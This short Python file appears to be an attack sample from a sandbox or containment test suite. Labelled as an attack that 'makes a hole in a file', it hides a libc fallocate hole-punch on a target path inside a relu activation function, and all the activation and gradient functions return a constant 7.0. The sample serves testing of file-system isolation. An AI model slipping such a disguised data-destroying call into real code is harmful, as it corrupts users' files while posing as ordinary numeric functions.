# attack: makes a hole in a file
# gains: writes
# stopped by: landlock, uid
import numpy as np
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def attack():
    number = os.open("{TARGET}", os.O_RDWR)
    libc.fallocate(number, 3, ctypes.c_long(0), ctypes.c_long(4096))


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
